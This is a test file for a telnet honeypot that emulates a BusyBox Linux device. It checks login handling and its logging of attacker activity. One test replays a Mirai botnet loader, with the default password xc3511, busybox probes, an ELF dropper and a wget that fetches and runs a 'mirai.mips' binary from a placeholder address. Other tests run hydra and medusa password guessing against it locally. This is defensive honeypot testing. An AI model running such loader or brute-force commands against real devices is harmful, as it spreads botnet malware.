import { execFile, spawn } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { needTools } from '../../../test/support/need.ts';
import { serveDecoy } from '../../../test/support/serve-decoy.ts';
import { shellPersona } from '../../../test/support/shell-persona.ts';
import type { DecoyOutput } from '../../core/decoy.ts';
import { telnet } from './telnet.ts';

const persona = shellPersona('linux-busybox');
const bytes = (text: string): Uint8Array => new Uint8Array(Buffer.from(text, 'latin1'));

function converse(pieces: readonly Uint8Array[]): DecoyOutput[] {
  let attempts = 0;
  const session = telnet.open({
    persona,
    source: '198.51.100.4',
    sourcePort: 40_001,
    destination: '192.0.2.7',
    destinationPort: 23,
    transport: 'tcp',
    tls: false,
    session: 's',
    now: () => 1_710_000_000_000,
    randomBytes: (count) => new Uint8Array(count),
    countAttempt: () => (attempts += 1),
  });
  const outputs = [...(session.start?.() ?? [])];
  for (const piece of pieces) outputs.push(...session.receive(piece));
  outputs.push(...(session.end?.() ?? []));
  return outputs;
}

const replies = (outputs: readonly DecoyOutput[]): string =>
  Buffer.concat(outputs.flatMap((output) => (output.do === 'reply' ? [output.bytes] : []))).toString(
    'latin1',
  );
const facts = (outputs: readonly DecoyOutput[]): unknown[] =>
  outputs.flatMap((output) => (output.do === 'saw' ? [output.fact] : []));

describe('the telnet decoy', () => {
  it('refuses a wrong password with a pause and takes the right one', () => {
    const outputs = converse([bytes('root\r\nadmin\r\nroot\r\nxc3511\r\n')]);
    expect(replies(outputs)).toContain('Login incorrect');
    expect(outputs.some((output) => output.do === 'pause' && output.milliseconds >= 1_500)).toBe(true);
    expect(facts(outputs)).toEqual([
      {
        kind: 'auth',
        service: 'telnet',
        user: 'root',
        method: 'password',
        password: 'admin',
        accepted: false,
      },
      {
        kind: 'auth',
        service: 'telnet',
        user: 'root',
        method: 'password',
        password: 'xc3511',
        accepted: true,
      },
    ]);
    expect(replies(outputs)).toContain('built-in shell (ash)');
  });

  it('closes after three wrong passwords', () => {
    expect(converse([bytes('a\r\nb\r\n'.repeat(4))]).filter((output) => output.do === 'close')).toHaveLength(
      1,
    );
    expect(facts(converse([bytes('a\r\nb\r\n'.repeat(4))]))).toHaveLength(3);
  });

  it('answers any split of the same bytes alike', () => {
    const part = fc.oneof(
      fc.constantFrom(
        'root\r\n',
        'xc3511\r\0',
        '\xff\xfb\x1f',
        '\xff\xfa\x1f\0\x50\0\x18\xff\xf0',
        '\xff\xff',
        'ls\r\n',
        'echo a\x7fb\r',
        '\x03',
        '\x04',
        '\xff',
        'busybox X\n',
      ),
      fc.string({ maxLength: 8 }),
    );
    fc.assert(
      fc.property(
        fc.array(part, { maxLength: 14 }),
        fc.array(fc.nat(300), { maxLength: 6 }),
        (parts, cuts) => {
          const whole = bytes(parts.join(''));
          const places = [
            0,
            ...cuts.map((cut) => cut % (whole.length + 1)).sort((left, right) => left - right),
            whole.length,
          ];
          const pieces = places.slice(1).map((end, index) => whole.slice(places[index], end));
          const [split, joined] = [converse(pieces), converse([whole])];
          expect(replies(split)).toBe(replies(joined));
          expect(facts(split)).toEqual(facts(joined));
        },
      ),
      { numRuns: 200 },
    );
  });

  it('takes a Mirai loader through its whole script', async () => {
    await using served = await serveDecoy(telnet, persona);
    const socket = connect(served.port, '127.0.0.1');
    let seen = '';
    const waiting: (() => void)[] = [];
    socket.on('data', (data) => {
      seen += data.toString('latin1');
      for (const wake of waiting.splice(0)) wake();
    });
    const expectNext = async (text: string): Promise<string> => {
      for (;;) {
        const at = seen.indexOf(text);
        if (at >= 0) {
          const before = seen.slice(0, at);
          seen = seen.slice(at + text.length);
          return before;
        }
        await new Promise<void>((resolve) => waiting.push(resolve));
      }
    };
    const say = (text: string): void => void socket.write(Buffer.from(text, 'latin1'));
    await expectNext('login: ');
    say('root\r\n');
    await expectNext('assword');
    say('xc3511\r\n');
    await expectNext('# ');
    for (const line of ['enable', 'system', 'shell', 'sh']) say(`${line}\r\n`);
    say('/bin/busybox ECCHI\r\n');
    await expectNext('ECCHI: applet not found');
    say('/bin/busybox ps; /bin/busybox ECCHI\r\n');
    expect(await expectNext('ECCHI: applet not found')).toContain('telnetd');
    say('/bin/busybox cat /proc/mounts; /bin/busybox ECCHI\r\n');
    expect(await expectNext('ECCHI: applet not found')).toContain('tmpfs /tmp tmpfs rw');
    say(
      "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/tmp' > /tmp/.nippon; /bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon\r\n/bin/busybox ECCHI\r\n",
    );
    expect(await expectNext('ECCHI: applet not found')).toContain('kami/tmp');
    say(
      'cd /tmp/; >.x && /bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI\r\n',
    );
    await expectNext('ECCHI: applet not found');
    say('/bin/busybox cat /bin/echo | head -c 20; /bin/busybox ECCHI\r\n');
    expect(await expectNext('ECCHI: applet not found')).toContain('\x7fELF\x01\x02\x01');
    say('/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI\r\n');
    const tools = await expectNext('ECCHI: applet not found');
    expect(tools).not.toContain('wget: applet not found');
    expect(tools).not.toContain('tftp: applet not found');
    say(
      'echo -ne "\\x7f\\x45\\x4c\\x46\\x01\\x02\\x01\\x00" > upnp; echo -ne "\\x00\\x00\\x00\\x00" >> upnp; /bin/busybox chmod 777 upnp; ./upnp; /bin/busybox ECCHI\r\n',
    );
    await expectNext('ECCHI: applet not found');
    say(
      '/bin/busybox wget http://198.51.100.9:80/bins/mirai.mips -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI\r\n',
    );
    await expectNext('ECCHI: applet not found');
    say('./dvrHelper telnet.mips.wget; /bin/busybox ECCHI\r\n');
    await expectNext('ECCHI: applet not found');
    say('rm -rf upnp; > dvrHelper; exit\r\nexit\r\n');
    await new Promise((resolve) => socket.once('close', resolve));
    expect(served.errors).toEqual([]);
    expect(served.facts.flatMap((fact) => (fact.kind === 'command' ? (fact.urls ?? []) : []))).toContain(
      'http://198.51.100.9:80/bins/mirai.mips',
    );
    expect(
      served.captures.map((capture) => [Buffer.from(capture.bytes).toString('hex'), capture.how]),
    ).toContainEqual(['7f454c460102010000000000', 'echo']);
  });

  // Two tasks, a guess each: hydra 9.4 with one task sends an empty name between two guesses, takes the new prompt for the answer
  // to the second guess, and ends before that is answered; so it does with every login(1) that prompts again.
  needTools(['hydra'])('lets hydra find the password, each guess recorded', async () => {
    await using served = await serveDecoy(telnet, persona);
    const folder = mkdtempSync(join(tmpdir(), 'picket-telnet-'));
    try {
      writeFileSync(join(folder, 'passwords'), 'admin\nxc3511\n');
      const port = String(served.port);
      const { stdout } = await promisify(execFile)(
        'hydra',
        ['-I', '-l', 'root', '-P', join(folder, 'passwords'), '-t', '2', '-s', port, '127.0.0.1', 'telnet'],
        { cwd: folder, timeout: 50_000 },
      );
      expect(stdout).toContain('login: root   password: xc3511');
      const guesses = served.facts.flatMap((fact) =>
        fact.kind === 'auth' ? [[fact.password, fact.accepted]] : [],
      );
      expect(guesses).toContainEqual(['admin', false]);
      expect(guesses).toContainEqual(['xc3511', true]);
    } finally {
      rmSync(folder, { recursive: true, force: true });
    }
  });

  needTools(['medusa'])('lets medusa find the password', async () => {
    await using served = await serveDecoy(telnet, persona);
    const words = [
      '-h',
      '127.0.0.1',
      '-n',
      String(served.port),
      '-u',
      'root',
      '-p',
      'xc3511',
      '-M',
      'telnet',
    ];
    const { stdout } = await promisify(execFile)('medusa', words, { timeout: 50_000 });
    expect(stdout).toContain('ACCOUNT FOUND: [telnet] Host: 127.0.0.1 User: root Password: xc3511 [SUCCESS]');
  });

  needTools(['telnet'])('talks to a real telnet client', async () => {
    await using served = await serveDecoy(telnet, persona);
    const client = spawn('telnet', ['127.0.0.1', String(served.port)]);
    let output = '';
    const said = ['root\n', 'xc3511\n', 'uname -m; exit\n'];
    const prompts = ['login: ', 'assword: ', '# '];
    await new Promise<void>((resolve) => {
      client.stdout.on('data', (data: Buffer) => {
        output += data.toString('latin1');
        if (prompts[0] !== undefined && output.endsWith(prompts[0])) {
          prompts.shift();
          client.stdin.write(said.shift() ?? '');
        }
      });
      client.once('close', () => resolve());
    });
    expect(output).toContain('mips');
    expect(served.facts.some((fact) => fact.kind === 'command' && fact.input === 'uname -m; exit')).toBe(
      true,
    );
  });
});
